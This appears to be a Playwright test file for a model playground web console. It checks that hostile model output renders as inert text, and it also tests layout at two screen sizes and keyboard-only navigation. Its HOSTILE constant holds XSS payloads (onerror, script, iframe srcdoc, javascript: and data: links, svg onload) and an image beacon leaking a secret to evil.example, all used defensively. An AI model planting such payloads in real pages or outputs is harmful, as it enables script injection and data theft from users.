import type { Locator } from "@playwright/test";
import { barriersOf } from "./barriers";
import { expect, test } from "./fixtures";
import { column, enter, message, saved, say } from "./playground-support";

const HOSTILE = [
  '<img src="https://evil.example/x.png" onerror="window.pwned=1">',
  "<script>window.pwned=1</script><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "[click](javascript:window.pwned=1) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)",
  "![picture](https://evil.example/leak.png?q=secret)",
  "<a href='javascript:window.pwned=1'>raw</a> <svg onload=window.pwned=1> <style>*{display:none}</style>",
  "[fine](https://example.com/page)",
].join("\n\n");

test("hostile output is text: nothing runs, nothing is fetched, no link leads into the page", async ({
  page,
  world,
}) => {
  await enter(page, world, "/console/playground?models=sandbox/echo&mode=test");
  const strangers: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(world.app.origin)) strangers.push(request.url());
  });
  page.on("dialog", (dialog) => strangers.push(dialog.message()));
  await say(page, HOSTILE);
  const talk = page.getByRole("region", { name: "Conversation with model 1" });
  await expect(talk.getByRole("link", { name: "fine" })).toHaveAttribute("href", "https://example.com/page");
  await expect(talk.locator("img, script, iframe, svg, style, object, embed, form[action]")).toHaveCount(0);
  const links = await talk.locator("a").evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
  expect(links.every((protocol) => protocol === "https:" || protocol === "http:")).toBe(true);
  await expect(talk.getByText("onerror=").first()).toBeVisible();
  await saved(page);
  await page.reload();
  await expect(talk.getByRole("link", { name: "fine" })).toBeVisible();
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => "pwned" in window)).toBe(false);
  expect(strangers).toEqual([]);
});

for (const look of [
  { name: "desktop, light", viewport: { width: 1280, height: 900 }, colorScheme: "light" },
  { name: "phone, dark", viewport: { width: 360, height: 780 }, colorScheme: "dark" },
] as const) {
  test(`no barriers with answers, failures and dialogs open: ${look.name}`, async ({ browser, world }) => {
    const context = await browser.newContext({ ...look, baseURL: world.app.origin });
    const page = await context.newPage();
    await enter(page, world, "/console/playground?models=sandbox/tool-call,sandbox/rate-limited&mode=test");
    const fits = async (what: string) => {
      expect.soft(await barriersOf(page), what).toEqual([]);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      expect.soft(overflow, `${what}: wider than the screen`).toBeLessThanOrEqual(0);
    };
    if (look.viewport.width < 600) await page.getByText("Request", { exact: true }).click();
    await page.getByRole("button", { name: "Add tools" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Insert an example" }).click();
    await page.getByRole("dialog").getByLabel("Arguments (JSON Schema)").fill("{");
    await fits("tools");
    await page.getByRole("dialog").getByLabel("Arguments (JSON Schema)").fill('{"type":"object"}');
    await page.getByRole("dialog").getByRole("button", { name: "Done" }).click();
    await say(page, "A long word: " + "x".repeat(300));
    await expect(column(page, 1).getByLabel("What get_weather answers")).toBeVisible();
    await saved(page);
    await fits("answers");
    for (const name of ["History", "Share", "Code"]) {
      await page.getByRole("button", { name, exact: true }).first().click();
      await expect(page.getByRole("dialog")).toBeVisible();
      await page.waitForTimeout(300);
      await fits(name);
      await page.keyboard.press("Escape");
    }
    await context.close();
  });
}

test("the whole flow by keyboard", async ({ page, world }) => {
  await enter(page, world, "/console/playground?models=sandbox/echo&mode=test");
  const reach = async (target: Locator) => {
    for (let presses = 0; presses < 80; presses++) {
      if (await target.evaluate((element) => element === document.activeElement).catch(() => false)) return;
      await page.keyboard.press("Tab");
    }
    throw new Error(`Tab never reached ${target}`);
  };
  await page.locator("#main").focus();
  await reach(page.getByRole("combobox", { name: "Model 1" }));
  await page.keyboard.press("Control+A");
  await page.keyboard.type("sandbox/reasoning");
  await reach(message(page));
  await page.keyboard.type("By keyboard");
  await page.keyboard.press("Control+Enter");
  await expect(column(page, 1).getByText("By keyboard", { exact: true })).toHaveCount(2);
  await expect(column(page, 1).getByTestId("announcer")).toContainText("sandbox/reasoning: By keyboard");
  await saved(page);

  await page.locator("#main").focus();
  await reach(page.getByRole("button", { name: "Edit", exact: true }));
  await page.keyboard.press("Enter");
  await expect(page.getByLabel("Edit the message")).toBeFocused();
  await page.keyboard.type(", again");
  await reach(page.getByRole("button", { name: "Send again" }));
  await page.keyboard.press("Enter");
  await expect(column(page, 1).getByText(", again").first()).toBeVisible();

  await page.locator("#main").focus();
  await reach(page.getByRole("button", { name: "History" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog").getByLabel("Search")).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(page.getByRole("button", { name: "History" })).toBeFocused();
  await reach(page.getByRole("button", { name: "Share" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog")).toBeVisible();
  await page.keyboard.press("Escape");
  await reach(page.getByRole("button", { name: "Code" }));
  await page.keyboard.press("Enter");
  await expect(page.getByRole("dialog")).toContainText("curl -N");
});
